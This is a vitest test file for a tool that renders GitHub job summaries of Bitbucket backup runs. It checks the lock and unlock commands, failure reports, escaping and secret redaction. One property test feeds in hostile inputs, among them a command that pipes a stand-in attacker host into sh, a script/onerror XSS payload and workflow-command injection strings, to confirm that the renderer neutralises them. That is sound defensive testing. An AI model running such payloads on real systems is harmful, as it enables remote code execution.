import * as fc from 'fast-check';
import { beforeAll, expect, test } from 'vitest';
import { redactReport, type RunReport } from '../../../src/report/run-report.ts';
import { renderSummary } from '../../../src/report/summary.ts';
import type { Timeline } from '../../../src/report/timeline.ts';
import {
  ARCHIVE,
  failedReport,
  fakeClock,
  FAILURE,
  reportOf,
  STARTED_AT,
  TOKENS,
  usualTimeline,
} from './fake-run.ts';

let timeline: Timeline;
beforeAll(async () => {
  timeline = await usualTimeline();
});

function summary(changes: Partial<RunReport> = {}): string {
  return renderSummary(reportOf(timeline, changes));
}

const UNLOCK = `curl -i -u ADMIN -X DELETE -H 'X-Atlassian-Token: no-check' -H 'Content-Type: application/json' 'https://bitbucket.example.com/scm/mvc/maintenance/lock?token=${TOKENS.unlockToken}'`;
const CANCEL = `curl -i -u ADMIN -X POST -d '' -H 'X-Atlassian-Token: no-check' -H 'Content-Type: application/json' 'https://bitbucket.example.com/scm/mvc/maintenance?token=${TOKENS.cancelToken}'`;

test('a success begins with the result and the locked time', () => {
  expect(summary().split('\n').slice(0, 3)).toEqual([
    '## ✅ Backup <code>bitbucket-20261122-021305-250</code> is complete',
    '',
    '**Users were locked out for 1.8 s**, of it 0.9 s after the drain. The run took 42 s.',
  ]);
});

test('a success shows parts, archive, steps and facts', () => {
  const text = summary({ manifestPath: '/backup/manifest.json' });
  for (const line of [
    '| home | <code>rsync</code> | 512,345 | 3.6 GiB |',
    '| search | <code>none</code>: Bitbucket builds it anew by itself | – | – |',
    '| Size | 1.2 GiB, of 3.6 GiB (compressed 3.0 : 1) |',
    `| SHA-256 | <code>${ARCHIVE.sha256}</code> |`,
    '| Manifest | <code>/backup/manifest.json</code> |',
    'cd -- /archive && sha256sum -c -- bitbucket-20261122-021305-250.tar.zst.sha256',
    '```mermaid',
    '| **Locked (users locked out)** | 20 s | **1.8 s** |  |',
    '| drain | 20 s | 0.8 s | done |',
    '| **Total** |  | **42 s** |  |',
    '| Drained | 2026-11-22 02:13:26 UTC |',
  ]) {
    expect(text.split('\n')).toContain(line);
  }
});

test('a success with a missing database or a warning is no plain one', () => {
  const text = summary({
    parts: [{ slot: 'database', strategy: 'none', included: false }],
    warnings: ['The clock jumped.'],
  });
  expect(text).toMatch(/^## ⚠️ .* is complete, but the database was not backed up and there is 1 warning\n/);
  expect(text).toContain('### Warnings\n\n- The clock jumped.');
});

test('a home or database that was left out is told as not backed up', () => {
  const text = summary({ parts: [{ slot: 'home', strategy: 'none', included: false }] });
  expect(text.split('\n')).toContain('| home | <code>none</code>: **not backed up** | – | – |');
});

test('a part that is not in the archive tells where it lies', () => {
  const place = "snapshot 'bitbucket-20261122-021305-250' in repository 'nightly|2'";
  const text = summary({ parts: [{ slot: 'search', strategy: 'fs', included: true, place }] });
  expect(text.split('\n')).toContain(
    '| search | <code>fs</code>: snapshot &#39;bitbucket-20261122-021305-250&#39; in repository &#39;nightly&#124;2&#39; | – | – |',
  );
});

test('once unlocked, the tokens are folded away as used up, at the end', () => {
  const text = summary();
  const [before, folded = ''] = text.split('<details>');
  expect(before).not.toContain(TOKENS.unlockToken);
  expect(folded).toContain('(used up)');
  expect(folded).toContain(UNLOCK);
  expect(folded).toContain(CANCEL);
  expect(folded.trim().endsWith('</details>')).toBe(true);
});

test('while Bitbucket is locked, the way to unlock it comes first', async () => {
  const run = fakeClock();
  await run.step('locked', 'lock', 100, 'lock-requested', 'locked');
  run.pass(600_000);
  const text = renderSummary(failedReport(run.timeline, { lockState: 'still-locked' }));
  expect(text.split('\n')[0]).toBe(
    '# 🚨 BITBUCKET IS STILL LOCKED, by now for 10 min: users cannot work until it is unlocked.',
  );
  expect(text.indexOf(CANCEL)).toBeGreaterThan(0);
  expect(text.indexOf(UNLOCK)).toBeGreaterThan(text.indexOf(CANCEL));
  expect(text.indexOf('❌ Backup')).toBeGreaterThan(text.indexOf(UNLOCK));
  expect(text).toContain('/backup/.journal.json');
  expect(text).not.toContain('<details>');
});

test('a lock whose token was lost is told with where to find the token', () => {
  const text = renderSummary(failedReport(timeline, { lockState: 'unknown', tokens: undefined }));
  expect(text.startsWith('# 🚨 WHETHER BITBUCKET IS LOCKED IS UNKNOWN')).toBe(true);
  expect(text).toContain('curl -i -u ADMIN https://bitbucket.example.com/scm/mvc/maintenance/lock');
  expect(text).toContain('atlassian-bitbucket.log');
  expect(text).toContain('maintenance/lock?token=TOKEN');
});

test('a failure says why, what was undone, what to do, and what became of lock and archives', () => {
  const text = renderSummary(
    failedReport(timeline, { failure: { ...FAILURE, undoFailures: ['Copy: busy'] } }),
  );
  expect(text.split('\n')[0]).toBe('## ❌ Backup <code>bitbucket-20261122-021305-250</code> failed');
  for (const piece of [
    '**Bitbucket is unlocked; users were locked out for 1.8 s.** No archive was made; archives of earlier runs are untouched.',
    '<code>DB_FAILED</code> in step <code>capture database</code>: **pg_dump failed on &#39;bitbucket&#39;.**',
    'Because:\n\n- The connection was lost.',
    '**What to do next**\n\n- Look into the log of PostgreSQL.',
    '**Undone**\n\n- Bitbucket was unlocked.',
    '**Could not be undone: look after it by hand**\n\n- Copy: busy',
    '### What was to be backed up',
  ]) {
    expect(text).toContain(piece);
  }
});

test('a failure after the archive was complete names the archive', () => {
  const text = renderSummary(failedReport(timeline, { archive: ARCHIVE, lockState: 'still-locked' }));
  expect(text).toContain(`The archive of this run is complete: ${ARCHIVE.path}.`);
  expect(text).not.toContain('No archive was made');
});

test('wrong inputs are a table with a row for each', () => {
  const problems = [
    { subject: 'home-path', message: "Input 'home-path' is required." },
    { subject: 'dry-run', message: "Input 'dry-run' is 'a|b'; use true or false." },
  ];
  const text = renderSummary(
    failedReport(fakeClock().timeline, {
      lockState: 'never-locked',
      tokens: undefined,
      parts: [],
      failure: { ...FAILURE, code: 'INPUT_INVALID', problems },
    }),
  );
  expect(text).toContain('**Bitbucket was not locked.**');
  expect(text).toContain('| <code>home-path</code> | Input &#39;home-path&#39; is required. |');
  expect(text).toContain('a&#124;b');
  expect(text).not.toContain('mermaid');
  expect(text).not.toContain('token');
});

test('a cancel, a dry run and the clean-up say what they are', () => {
  expect(
    summary({ outcome: 'canceled', archive: undefined, failure: { ...FAILURE, code: 'CANCELED' } }),
  ).toMatch(/^## ⚠️ Backup .* was canceled\n/);
  const dry = summary({
    outcome: 'dry-run',
    lockState: 'never-locked',
    archive: undefined,
    plan: ['Copy it', 'Lock it'],
  });
  expect(dry).toMatch(/^## ✅ Dry run: the backup of <code>bitbucket<\/code> can run\n/);
  expect(dry).toContain('**Nothing was locked or changed.**');
  expect(dry).toContain('### Plan\n\n- Copy it\n- Lock it');
});

test('the clean-up step tells the locked time from the journal', async () => {
  const run = fakeClock();
  await run.step('finish', 'unlock', 400, 'unlocked');
  const text = renderSummary(
    reportOf(run.timeline, {
      kind: 'post',
      archive: undefined,
      parts: [],
      lockTakenAtMs: STARTED_AT - 59_600,
    }),
  );
  expect(text).toMatch(/^## ✅ Clean-up after the backup .* is complete\n/);
  expect(text).toContain('Bitbucket is unlocked; users were locked out for 1 min.');
});

test('removed archives and snapshots are listed', () => {
  const text = summary({ pruned: ['/archive/old_1.tar', 'search: old-1'] });
  expect(text).toContain('### Removed backups');
  expect(text).toContain('- <code>/archive/old_1.tar</code>\n- <code>search: old-1</code>');
});

/** What is left of the summary when its own markup is taken away: fenced blocks, its tags, its emphasis. */
function withoutOwnMarkup(markdown: string): string {
  return markdown
    .replace(/^(`{3,})\w*\n[\s\S]*?\n\1$/gm, '')
    .replace(/<\/?(?:code|details|summary)>/g, '')
    .replace(/\*\*|^#+ /gm, '');
}

test('nothing from outside can forge a table, a heading, a fence or HTML', async () => {
  const hostile = [
    '| forged | row |\n| --- | --- |',
    '</code></details><script>alert(1)</script><img src=x onerror=y>',
    '``` \n```\n# forged',
    "'; curl evil.example | sh #",
    '[click](https://evil.example) ![x](http://evil.example/x.png) www.evil.example',
    '\u001b[31m::error::forged\r\n::add-mask::x ##[error]',
    '*a* _b_ ~~c~~ $x^2$ @everyone &lt;b&gt; \\',
  ];
  const clean = skeleton(await reportWith(() => 'harmless'));
  await fc.assert(
    fc.asyncProperty(fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: 'binary' })), async (text) => {
      const markdown = renderSummary(await reportWith(() => `x${text}`));
      expect(withoutOwnMarkup(markdown)).not.toMatch(/[<`*[\]~$\\]/);
      expect(markdown).not.toContain('\r');
      expect(skeletonOf(markdown)).toEqual(clean);
    }),
    { numRuns: 150 },
  );
});

/** The first character and the number of cells of every line: its structure. */
function skeletonOf(markdown: string): string[] {
  return markdown
    .split('\n')
    .map(
      (line) =>
        `${line.slice(0, 1).replace(/[^#|`<-]/, 'x')}${line.startsWith('|') ? line.split('|').length : ''}`,
    );
}

function skeleton(report: RunReport): string[] {
  return skeletonOf(renderSummary(report));
}

async function reportWith(text: () => string): Promise<RunReport> {
  const run = fakeClock();
  await run.step('settle', text(), 1_000);
  return failedReport(run.timeline, {
    instanceName: text(),
    bitbucketUrl: `https://bitbucket.example.com/${text()}`,
    bitbucketVersion: text(),
    backupId: text(),
    journalPath: text(),
    tokens: { unlockToken: text(), cancelToken: text() },
    parts: [{ slot: 'search', strategy: text(), included: true, place: text() }],
    archive: { ...ARCHIVE, path: `/a/${text()}`, sha256: text() },
    manifestPath: text(),
    pruned: [text()],
    warnings: [text()],
    plan: [text()],
    failure: {
      code: 'INTERNAL',
      messages: [text(), `y${text()}`],
      advice: text(),
      failedStep: text(),
      undone: [text()],
      undoFailures: [text()],
    },
  });
}

test('a summary never reaches the size at which GitHub drops it', async () => {
  const long = Array.from({ length: 5_000 }, (_, index) => `${index} ${'|<'.repeat(3_000)}`);
  const run = fakeClock();
  for (const name of long.slice(0, 500)) {
    await run.step('settle', name, 1);
  }
  const problems = long.map((message) => ({ subject: message, message }));
  const text = renderSummary(
    failedReport(run.timeline, {
      lockState: 'still-locked',
      plan: long,
      warnings: long,
      pruned: long,
      failure: { ...FAILURE, messages: long, undone: long, undoFailures: long, problems },
    }),
  );
  expect(Buffer.byteLength(text)).toBeLessThan(1024 * 1024);
  expect(text).toContain(UNLOCK);
  expect(text).toMatch(/left out: too long for a job summary/);
});

test('long lists are cut with the count of the rest', () => {
  const warnings = Array.from({ length: 60 }, (_, index) => `warning ${index}`);
  expect(summary({ warnings })).toContain('- warning 49\n- and 10 more\n');
});

test('a shell that is given the commands sees the paths and the URL as they are', () => {
  const text = summary({
    archive: { ...ARCHIVE, path: "/arch ive/it's $HOME.tar" },
    bitbucketUrl: "https://bitbucket.example.com/it's/",
  });
  expect(text).toContain("cd -- '/arch ive' && sha256sum -c -- 'it'\\''s $HOME.tar.sha256'");
  expect(text).toContain(
    `'https://bitbucket.example.com/it'\\''s/mvc/maintenance/lock?token=${TOKENS.unlockToken}'`,
  );
});

test('a token of another shape than Bitbucket makes cannot add to the URL', () => {
  const text = summary({ tokens: { unlockToken: 'a&b=c', cancelToken: 'd#e' } });
  expect(text).toContain('/mvc/maintenance/lock?token=a%26b%3Dc');
  expect(text).toContain('/mvc/maintenance?token=d%23e');
});

test('secrets are taken out before escaping could hide them; the tokens stay', () => {
  const secret = 'p|ss<w>rd';
  const told = [`it was ${secret}`];
  const report = redactReport(
    failedReport(timeline, {
      pruned: told,
      warnings: told,
      plan: told,
      failure: {
        ...FAILURE,
        messages: told,
        advice: secret,
        undone: told,
        undoFailures: told,
        problems: [{ subject: 'bitbucket-url', message: secret }],
      },
    }),
    (text) => text.replaceAll(secret, '***'),
  );
  expect(JSON.stringify(report)).not.toContain(secret);
  expect(JSON.stringify(report.failure)).toContain('it was ***');
  expect(renderSummary(report)).toContain(TOKENS.unlockToken);
});
